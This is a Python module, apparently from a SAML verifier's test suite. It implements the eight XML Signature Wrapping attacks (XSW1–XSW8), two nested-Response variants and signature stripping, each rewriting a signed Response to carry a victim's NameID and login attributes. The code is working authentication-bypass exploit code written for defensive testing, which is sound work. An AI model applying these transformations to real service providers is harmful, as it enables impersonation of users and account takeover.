"""Ways to tamper with a genuinely signed SAML Response, for the attack suite.

Everything here works on the XML text ``TestIdP.response()`` returns, through a
DOM (xml.dom.minidom keeps every prefix and namespace declaration where it was,
so what is not deliberately changed still verifies). Each function takes the
signed text and returns the attacker's text.

The eight XML Signature Wrapping shapes follow the catalogue of Somorovsky et
al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), as
the SAML Raider Burp extension applies them:

    XSW1  Response: the evil Response is the root; a copy of the original Response
          (less its signature) goes inside the original Signature, whose
          Reference still names the original ID.
    XSW2  Response: as XSW1, the copy placed just before the Signature (detached).
    XSW3  Assertion: an evil unsigned Assertion (new ID) before the signed one.
    XSW4  Assertion: the evil Assertion wraps the signed one.
    XSW5  Assertion: the signed Assertion is changed in place (new ID, signature
          kept); an unsigned copy of the original is appended to the Response.
    XSW6  Assertion: as XSW5, the original copy placed inside the Signature.
    XSW7  Assertion: an evil copy (same ID, no signature) inside Extensions.
    XSW8  Assertion: changed in place (same ID); the original copy inside a
          ds:Object in its Signature.

"Evil" means: NameID and the upn/email attributes of the victim.
"""
from __future__ import annotations

import defusedxml.minidom

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DSIG = "http://www.w3.org/2000/09/xmldsig#"
CLAIMS = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/"
LOGIN_ATTRIBUTES = (CLAIMS + "upn", CLAIMS + "emailaddress")


# --- DOM plumbing -----------------------------------------------------------------------

def parse(xml: str):
    return defusedxml.minidom.parseString(xml.encode("utf-8"))


def serialize(document) -> str:
    return document.documentElement.toxml()


def roundtrip(xml: str) -> str:
    """Parse and write back, changing nothing: a control that the plumbing itself breaks no signature."""
    return serialize(parse(xml))


def elements(node, namespace: str, local: str) -> list:
    """Descendants in document order."""
    return list(node.getElementsByTagNameNS(namespace, local))


def child_elements(node, namespace: str, local: str) -> list:
    return [c for c in node.childNodes
            if c.nodeType == c.ELEMENT_NODE and c.namespaceURI == namespace and c.localName == local]


def first(node, namespace: str, local: str):
    found = elements(node, namespace, local)
    return found[0] if found else None


def own_signature(element):
    """The ds:Signature that is a direct child of ``element`` (an enveloped signature), or None."""
    found = child_elements(element, DSIG, "Signature")
    return found[0] if found else None


def set_text(element, value: str) -> None:
    while element.firstChild is not None:
        element.removeChild(element.firstChild)
    element.appendChild(element.ownerDocument.createTextNode(value))


def new_element(document, namespace: str, qualified_name: str):
    element = document.createElementNS(namespace, qualified_name)
    return element


def make_evil(element, victim_name_id: str, victim_login: str) -> None:
    """Turn whatever subject ``element`` carries into the victim."""
    for name_id in elements(element, SAML, "NameID"):
        if name_id.parentNode.localName == "Subject":
            set_text(name_id, victim_name_id)
    for attribute in elements(element, SAML, "Attribute"):
        if attribute.getAttribute("Name") in LOGIN_ATTRIBUTES:
            for value in child_elements(attribute, SAML, "AttributeValue"):
                set_text(value, victim_login)


def drop_own_signature(element) -> None:
    signature = own_signature(element)
    if signature is not None:
        element.removeChild(signature)


def the_assertion(document):
    return child_elements(document.documentElement, SAML, "Assertion")[0]


def covering_signature(document):
    """The signature over the Assertion: its own, or else the Response's (which covers it)."""
    return own_signature(the_assertion(document)) or own_signature(document.documentElement)


# --- the eight wrapping attacks ------------------------------------------------------------

EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"


def xsw1(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    response = document.documentElement
    original = response.cloneNode(True)
    make_evil(response, *victim)
    signature = first(response, DSIG, "Signature")  # the first one in document order, as the catalogue does
    _drop_first_signature(original)
    signature.appendChild(original)
    response.setAttribute("ID", EVIL_RESPONSE_ID)
    return serialize(document)


def xsw2(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    response = document.documentElement
    original = response.cloneNode(True)
    make_evil(response, *victim)
    signature = first(response, DSIG, "Signature")
    _drop_first_signature(original)
    signature.parentNode.insertBefore(original, signature)
    response.setAttribute("ID", EVIL_RESPONSE_ID)
    return serialize(document)


def _drop_first_signature(element) -> None:
    signature = first(element, DSIG, "Signature")
    if signature is not None:
        signature.parentNode.removeChild(signature)


def _evil_copy(assertion, victim, new_id: str | None):
    evil = assertion.cloneNode(True)
    make_evil(evil, *victim)
    drop_own_signature(evil)
    if new_id:
        evil.setAttribute("ID", new_id)
    return evil


def xsw3(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    assertion = the_assertion(document)
    document.documentElement.insertBefore(_evil_copy(assertion, victim, EVIL_ASSERTION_ID), assertion)
    return serialize(document)


def xsw4(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    response = document.documentElement
    assertion = the_assertion(document)
    evil = _evil_copy(assertion, victim, EVIL_ASSERTION_ID)
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)
    return serialize(document)


def xsw5(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    evil = the_assertion(document)
    original = evil.cloneNode(True)
    drop_own_signature(original)
    make_evil(evil, *victim)
    evil.setAttribute("ID", EVIL_ASSERTION_ID)
    document.documentElement.appendChild(original)
    return serialize(document)


def xsw6(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    evil = the_assertion(document)
    signature = covering_signature(document)
    original = evil.cloneNode(True)
    drop_own_signature(original)
    make_evil(evil, *victim)
    evil.setAttribute("ID", EVIL_ASSERTION_ID)
    signature.appendChild(original)
    return serialize(document)


def xsw7(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    response = document.documentElement
    assertion = the_assertion(document)
    prefix = response.prefix
    extensions = new_element(document, SAMLP, f"{prefix}:Extensions" if prefix else "Extensions")
    extensions.appendChild(_evil_copy(assertion, victim, None))  # keeps the signed assertion's ID
    # Where the schema allows Extensions: after Issuer and Signature, before Status.
    response.insertBefore(extensions, child_elements(response, SAMLP, "Status")[0])
    return serialize(document)


def xsw8(xml: str, victim: tuple[str, str]) -> str:
    document = parse(xml)
    evil = the_assertion(document)
    signature = covering_signature(document)
    original = evil.cloneNode(True)
    drop_own_signature(original)
    make_evil(evil, *victim)  # the ID stays: the Reference still names it
    holder = new_element(document, DSIG, f"{signature.prefix}:Object" if signature.prefix else "Object")
    signature.appendChild(holder)
    holder.appendChild(original)
    return serialize(document)


XSW = {"XSW1": xsw1, "XSW2": xsw2, "XSW3": xsw3, "XSW4": xsw4, "XSW5": xsw5, "XSW6": xsw6, "XSW7": xsw7,
       "XSW8": xsw8}


# --- a genuine Response carried inside an evil one -----------------------------------------

def _evil_response(xml: str, victim, *, same_ids: bool):
    """An unsigned copy of the Response made evil; optionally keeping the genuine IDs."""
    document = parse(xml)
    response = document.documentElement
    assertion = the_assertion(document)
    for element in (response, assertion):
        drop_own_signature(element)
    make_evil(response, *victim)
    if not same_ids:
        response.setAttribute("ID", EVIL_RESPONSE_ID)
        assertion.setAttribute("ID", EVIL_ASSERTION_ID)
    return document


def hidden_in_extensions(xml: str, victim: tuple[str, str]) -> str:
    """The genuine signed Response inside the Extensions of an unsigned evil one."""
    genuine = parse(xml).documentElement
    document = _evil_response(xml, victim, same_ids=False)
    response = document.documentElement
    extensions = new_element(document, SAMLP, f"{response.prefix}:Extensions")
    extensions.appendChild(document.importNode(genuine, True))
    response.insertBefore(extensions, child_elements(response, SAMLP, "Status")[0])
    return serialize(document)


def hidden_in_key_info(xml: str, victim: tuple[str, str]) -> str:
    """The evil Response takes the genuine IDs and a copy of the genuine signature, whose
    KeyInfo carries the whole genuine Response: a verifier that resolves the Reference to
    the first element with that ID anywhere (or checks "some signature is valid") is fooled."""
    source = parse(xml)
    genuine = source.documentElement
    document = _evil_response(xml, victim, same_ids=True)
    response = document.documentElement
    signed = own_signature(genuine)
    target = response
    if signed is None:  # only the assertion is signed: the copy goes on the evil assertion
        signed = own_signature(the_assertion(source))
        target = the_assertion(document)
    copy = document.importNode(signed, True)
    key_info = child_elements(copy, DSIG, "KeyInfo")[0]
    key_info.appendChild(document.importNode(genuine, True))
    issuer = child_elements(target, SAML, "Issuer")[0]
    target.insertBefore(copy, issuer.nextSibling)
    return serialize(document)


# --- small text-level tampering -------------------------------------------------------------

def remove_signatures(xml: str) -> str:
    document = parse(xml)
    for signature in elements(document, DSIG, "Signature"):
        signature.parentNode.removeChild(signature)
    return serialize(document)


def replace_all(xml: str, old: str, new: str) -> str:
    assert old in xml, f"{old!r} is not in the Response"
    return xml.replace(old, new)

